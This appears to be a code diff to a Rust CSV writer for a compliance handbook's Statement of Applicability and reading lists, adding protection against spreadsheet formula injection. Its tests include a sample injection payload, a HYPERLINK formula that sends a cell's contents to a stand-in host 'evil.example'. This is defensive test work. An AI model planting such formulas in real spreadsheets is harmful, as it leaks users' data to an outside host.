@@ -1,10 +1,76 @@
-//! CSV files (RFC 4180): the Statement of Applicability, for spreadsheets
-//! and auditors, and the reading lists, for HR and learning systems.
+//! CSV files for spreadsheets, auditors, HR and learning systems: the
+//! Statement of Applicability and the reading lists, through one writer
+//! that every CSV of the site uses.
+//!
+//! A file is RFC 4180 (CRLF line ends, fields quoted when needed), starts
+//! with a UTF-8 byte-order mark so that spreadsheets read accents right,
+//! and every cell that a spreadsheet would run as a formula is neutralised
+//! (the OWASP rule against CSV injection): a cell whose text starts with
+//! `=`, `+`, `-`, `@` (or their full-width forms), a tab or a carriage
+//! return gets a `'` in front, which spreadsheets show as text.
 
 use crate::handbook::{Handbook, urls};
 
-/// The header row.
-pub const HEADER: [&str; 8] = [
+/// A CSV file being written, row by row.
+#[derive(Debug, Clone)]
+pub struct Csv {
+    text: String,
+}
+
+impl Csv {
+    /// A file with the byte-order mark and the header row.
+    pub fn new(header: &[&str]) -> Csv {
+        let mut csv = Csv {
+            text: String::from("\u{feff}"),
+        };
+        csv.row(header);
+        csv
+    }
+
+    /// Appends one row.
+    pub fn row<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) {
+        for (i, cell) in cells.into_iter().enumerate() {
+            if i > 0 {
+                self.text.push(',');
+            }
+            push_cell(&mut self.text, cell.as_ref());
+        }
+        self.text.push_str("\r\n");
+    }
+
+    /// The whole file.
+    pub fn finish(self) -> String {
+        self.text
+    }
+}
+
+/// Whether a spreadsheet could read `cell` as a formula.
+fn formula_like(cell: &str) -> bool {
+    cell.starts_with(['\t', '\r'])
+        || cell
+            .trim_start()
+            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
+}
+
+fn push_cell(out: &mut String, cell: &str) {
+    let neutralised = formula_like(cell);
+    let quoted = neutralised || cell.contains([',', ';', '"', '\r', '\n']);
+    if quoted {
+        out.push('"');
+    }
+    if neutralised {
+        out.push('\'');
+    }
+    if quoted {
+        out.push_str(&cell.replace('"', "\"\""));
+        out.push('"');
+    } else {
+        out.push_str(cell);
+    }
+}
+
+/// The header row of `soa.csv`.
+pub const SOA_HEADER: [&str; 8] = [
     "Control",
     "Title",
     "Theme",
@@ -15,10 +81,9 @@ pub const HEADER: [&str; 8] = [
     "Implementing documents",
 ];
 
-/// The SoA of `h` as RFC 4180 text: CRLF line ends, fields quoted when needed.
+/// The SoA of `h`: one row per control, in clause order.
 pub fn soa(h: &Handbook) -> String {
-    let mut out = String::with_capacity(h.controls.len() * 200);
-    push_row(&mut out, HEADER.iter().map(|s| s.to_string()));
+    let mut csv = Csv::new(&SOA_HEADER);
     for c in &h.controls {
         let info = c.info();
         let s = c.statement.as_ref();
@@ -29,29 +94,24 @@ pub fn soa(h: &Handbook) -> String {
         };
         let owner = s
             .and_then(|s| s.owner)
-            .map(|o| h.roles[o].title.clone())
-            .unwrap_or_default();
+            .map_or("", |o| h.roles[o].title.as_str());
         let documents: Vec<&str> = c
             .policies
             .iter()
             .map(|&p| h.policies[p].title.as_str())
             .collect();
-        push_row(
-            &mut out,
-            [
-                info.id.to_owned(),
-                info.title.to_owned(),
-                info.theme.name().to_owned(),
-                applicable.to_owned(),
-                s.map(|s| s.justification.clone()).unwrap_or_default(),
-                c.state().label().to_owned(),
-                owner,
-                documents.join("; "),
-            ]
-            .into_iter(),
-        );
+        csv.row([
+            info.id,
+            info.title,
+            info.theme.name(),
+            applicable,
+            s.map_or("", |s| s.justification.as_str()),
+            c.state().label(),
+            owner,
+            &documents.join("; "),
+        ]);
     }
-    out
+    csv.finish()
 }
 
 /// The header row of `reading-lists.csv`.
@@ -65,9 +125,9 @@ pub const READING_HEADER: [&str; 7] = [
     "URL",
 ];
 
-/// Every reading list as rows: everyone's first (role `Everyone`, no role
-/// id), then each role's, everyone's policies included. URLs start at the
-/// site root, after `site-url` when it is set.
+/// Every reading list, one row per role and policy: everyone's first (role
+/// `Everyone`, no role id), then each role's, everyone's policies included.
+/// URLs start at the site root, after `site-url` when it is set.
 pub fn reading_lists(h: &Handbook) -> String {
     let base = h
         .config
@@ -76,8 +136,7 @@ pub fn reading_lists(h: &Handbook) -> String {
         .as_deref()
         .map(|u| format!("{}/", u.trim_end_matches('/')))
         .unwrap_or_default();
-    let mut out = String::new();
-    push_row(&mut out, READING_HEADER.iter().map(|s| s.to_string()));
+    let mut csv = Csv::new(&READING_HEADER);
     let lists = std::iter::once(("Everyone", "", &h.everyone)).chain(
         h.roles
             .iter()
@@ -86,57 +145,69 @@ pub fn reading_lists(h: &Handbook) -> String {
     for (role, id, list) in lists {
         for &p in list {
             let policy = &h.policies[p];
-            push_row(
-                &mut out,
-                [
-                    role.to_owned(),
-                    id.to_owned(),
-                    policy.id.clone(),
-                    policy.title.clone(),
-                    policy.version.clone().unwrap_or_default(),
-                    policy.minutes.to_string(),
-                    format!("{base}{}", urls::policy(&policy.id)),
-                ]
-                .into_iter(),
-            );
+            csv.row([
+                role,
+                id,
+                &policy.id,
+                &policy.title,
+                policy.version.as_deref().unwrap_or(""),
+                &policy.minutes.to_string(),
+                &format!("{base}{}", urls::href(&urls::policy(&policy.id))),
+            ]);
         }
     }
-    out
-}
-
-fn push_row(out: &mut String, fields: impl Iterator<Item = String>) {
-    for (i, field) in fields.enumerate() {
-        if i > 0 {
-            out.push(',');
-        }
-        push_field(out, &field);
-    }
-    out.push_str("\r\n");
-}
-
-fn push_field(out: &mut String, field: &str) {
-    if field.contains([',', '"', '\r', '\n']) {
-        out.push('"');
-        out.push_str(&field.replace('"', "\"\""));
-        out.push('"');
-    } else {
-        out.push_str(field);
-    }
+    csv.finish()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    fn one_row(cells: &[&str]) -> String {
+        let mut csv = Csv::new(&[]);
+        csv.row(cells);
+        csv.finish()
+            .strip_prefix("\u{feff}\r\n")
+            .unwrap()
+            .to_owned()
+    }
+
+    #[test]
+    fn starts_with_a_byte_order_mark_and_the_header() {
+        let csv = Csv::new(&["Control", "Title"]).finish();
+        assert_eq!(csv, "\u{feff}Control,Title\r\n");
+    }
+
     #[test]
     fn quotes_only_fields_that_need_it() {
-        let mut out = String::new();
-        push_row(
-            &mut out,
-            ["plain", "a, b", "say \"hi\"", "two\nlines"]
-                .iter()
-                .map(|s| s.to_string()),
+        assert_eq!(
+            one_row(&[
+                "plain",
+                "a, b",
+                "say \"hi\"",
+                "two\nlines",
+                "a; b",
+                "Zürich"
+            ]),
+            "plain,\"a, b\",\"say \"\"hi\"\"\",\"two\nlines\",\"a; b\",Zürich\r\n"
         );
-        assert_eq!(out, "plain,\"a, b\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_neutralised() {
+        assert_eq!(
+            one_row(&[r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#]),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n"
+        );
+        for cell in [
+            "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1+1", "＝1+1",
+        ] {
+            let row = one_row(&[cell]);
+            assert!(row.starts_with("\"'"), "{cell:?} → {row:?}");
+        }
+        for cell in ["a=1", "5.15", "x-y", "e@mail", ""] {
+            let row = one_row(&[cell]);
+            assert_eq!(row, format!("{cell}\r\n"), "{cell:?}");
+        }
     }
 }
